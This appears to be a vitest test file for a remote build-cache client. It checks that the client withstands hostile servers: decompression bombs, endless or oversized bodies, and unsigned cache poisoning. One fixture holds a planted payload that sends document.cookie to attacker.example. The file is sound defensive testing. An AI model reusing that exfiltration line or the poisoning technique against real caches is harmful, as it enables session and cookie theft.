// Issue #16 items 6–8: a hostile or broken remote. Malicious loopback servers drive the real
// client code; for 6 and 7 the client runs in a child process (hostile-client.mjs) whose peak
// RSS is measured, so a bounded run is told from one that filled memory.
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { encodeArtifact, signArtifact, artifactId } from '../../packages/core/src/cache/remote/artifact.js';
import { createRemoteTier } from '../../packages/core/src/cache/remote/remote-tier.js';
import { resetUnsignedWarnings } from '../../packages/core/src/cache/remote/trust.js';
// @ts-expect-error plain .mjs shared with bench/remote.bench.mjs
import { runHostileClient, startHostileServer } from './hostile-server.mjs';

const MB = 1024 * 1024;
/** What the tests configure as remote.maxArtifactSize. */
const LIMIT = 8 * MB;
/** Headroom over the limit for the rest of a download (zlib state, socket buffers, GC slack). */
const SLACK = 48 * MB;
const NAMESPACE = 'large-file';
const KEY = 'ab'.repeat(16);

interface ClientRun {
  got?: (number | null)[];
  warnings?: string[];
  maxRssBytes?: number;
  baselineRssBytes?: number;
  crashed?: boolean;
  stderr: string;
}

beforeAll(() => {
  if (!fs.existsSync(path.resolve(import.meta.dirname, '../../packages/core/dist/cache/remote/remote-tier.js'))) {
    throw new Error('run `pnpm build` first: the client process loads the built tier');
  }
});

/**
 * `gets` downloads in a row in one client process. Each bomb download leaves its buffers to the
 * garbage collector, so several in a row may add up before it runs: the bound asserted is per
 * download, and the bomb cases make one.
 */
async function hostile(
  mode: string,
  gets: number,
  extra: Record<string, unknown> = {},
): Promise<{ run: ClientRun; requests: number }> {
  const server = await startHostileServer({ mode, namespace: NAMESPACE, key: KEY, ...extra });
  try {
    const run = (await runHostileClient({
      url: server.url,
      namespace: NAMESPACE,
      key: KEY,
      gets,
      remote: { readOnly: true, maxArtifactSize: LIMIT },
    })) as ClientRun;
    return { run, requests: server.stats.requests };
  } finally {
    await server.close();
  }
}

function expectBounded(run: ClientRun): void {
  expect(run.crashed, run.stderr).toBeFalsy();
  expect(run.got!.every((got) => got === null)).toBe(true);
  expect(run.maxRssBytes! - run.baselineRssBytes!).toBeLessThan(LIMIT + SLACK);
}

describe('6: brotli bomb', () => {
  it('an artifact declaring 1e9 bytes is refused before anything is inflated', async () => {
    const { run } = await hostile('bomb', 1);
    expectBounded(run);
    // Refused from the header alone: nothing near the limit was allocated.
    expect(run.maxRssBytes! - run.baselineRssBytes!).toBeLessThan(SLACK);
    expect(run.warnings!.join('\n')).toMatch(
      /failed verification \(declares 1000000000 bytes, over remote\.maxArtifactSize/,
    );
    expect(run.warnings).toHaveLength(1);
  });

  it('an artifact that lies about its size (declares the limit, inflates to 512 MB) stops at the declared size', async () => {
    const { run } = await hostile('bomb-lying', 1, { declared: LIMIT });
    expectBounded(run);
    expect(run.warnings!.join('\n')).toMatch(/cannot decompress \(inflates past the declared/);
  });
});

describe('7: unbounded bodies', () => {
  it('content-length: 4 GiB is refused before the body is read', async () => {
    const { run } = await hostile('flood', 4);
    expectBounded(run);
    expect(run.maxRssBytes! - run.baselineRssBytes!).toBeLessThan(SLACK);
    expect(run.warnings!.join('\n')).toMatch(/over remote\.maxArtifactSize/);
  });

  it('an endless body with no length is cut when it passes the limit, and the tier stays on', async () => {
    const { run, requests } = await hostile('flood-chunked', 4);
    expectBounded(run);
    expect(run.warnings).toHaveLength(1);
    // Each download was tried: one oversize body does not turn the tier off.
    expect(requests).toBe(4);
  });
});

describe('8: poisoning without a signature key', () => {
  // A plain Turborepo-API store anyone with the token can write to, as the attacker sees it.
  const store = new Map<string, { body: Buffer; tag: string | undefined }>();
  let server: http.Server;
  let url: string;
  const warnings: string[] = [];
  const logger = { warn: (message: string) => void warnings.push(message), info() {} };

  beforeAll(async () => {
    server = http.createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (chunk: Buffer) => chunks.push(chunk));
      req.on('end', () => {
        const id = new URL(req.url!, 'http://x').pathname.replace('/v8/artifacts/', '');
        if (req.method === 'PUT') {
          store.set(id, { body: Buffer.concat(chunks), tag: req.headers['x-artifact-tag'] as string | undefined });
          res.writeHead(202).end('{}');
          return;
        }
        const entry = store.get(id);
        if (!entry) res.writeHead(404).end();
        else
          res
            .writeHead(200, entry.tag ? { 'x-artifact-tag': entry.tag } : {})
            .end(req.method === 'HEAD' ? undefined : entry.body);
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise((resolve) => server.close(resolve)));
  afterEach(() => {
    store.clear();
    warnings.length = 0;
    resetUnsignedWarnings();
  });

  const honest = Buffer.from(JSON.stringify({ v: 1, result: { code: 'export const answer = 42;' } }));
  const planted = Buffer.from(
    JSON.stringify({ v: 1, result: { code: 'fetch("https://attacker.example/?" + document.cookie);' } }),
  );

  /** A token holder downloads nothing, signs nothing: re-encodes planted code with a valid checksum and uploads it. */
  async function plant(namespace: string, key: string, tag?: (id: string, body: Buffer) => string): Promise<void> {
    const id = artifactId(namespace, key);
    const body = await encodeArtifact(namespace, key, planted);
    store.set(id, { body, tag: tag?.(id, body) });
  }

  it('a read-write remote without a key warns once, saying what an unsigned cache allows', async () => {
    const a = createRemoteTier({ url, token: 't', logger });
    const b = createRemoteTier({ url, token: 't', logger });
    await Promise.all([a.close(), b.close()]);
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(
      /no signature key: anyone holding a token .* check results .* transform results: those are never taken from it without a signature/,
    );
    const readOnly = createRemoteTier({ url: `${url}/elsewhere`, token: 't', readOnly: true, logger });
    await readOnly.close();
    expect(warnings).toHaveLength(1);
  });

  it('planted transform code with a valid checksum is never served without a signature key', async () => {
    await plant('transform', KEY);
    const tier = createRemoteTier({ url, token: 't', readOnly: true, logger });
    expect(await tier.get('transform', KEY)).toBeUndefined();
    await tier.close();
    expect(warnings.join('\n')).toMatch(/never taken from it without a signature \(remote\.allowUnsigned opts in\)/);
  });

  it('with a signature key, planted code unsigned or signed with another key is a miss', async () => {
    const tier = createRemoteTier({ url, token: 't', readOnly: true, signatureKey: 'team secret', logger });
    await plant('transform', KEY);
    expect(await tier.get('transform', KEY)).toBeUndefined();
    await plant('transform', 'cd'.repeat(16), (id, body) => signArtifact('attacker key', id, undefined, body));
    expect(await tier.get('transform', 'cd'.repeat(16))).toBeUndefined();
    // The honest entry, signed with the team key, is served.
    const id = artifactId('transform', 'ef'.repeat(16));
    const body = await encodeArtifact('transform', 'ef'.repeat(16), honest);
    store.set(id, { body, tag: signArtifact('team secret', id, undefined, body) });
    expect((await tier.get('transform', 'ef'.repeat(16)))?.equals(honest)).toBe(true);
    await tier.close();
  });

  it('remote.allowUnsigned is the named opt-in: then unsigned transform results are taken', async () => {
    await plant('transform', KEY);
    const tier = createRemoteTier({ url, token: 't', readOnly: true, allowUnsigned: true, logger });
    expect((await tier.get('transform', KEY))?.equals(planted)).toBe(true);
    await tier.close();
  });
});
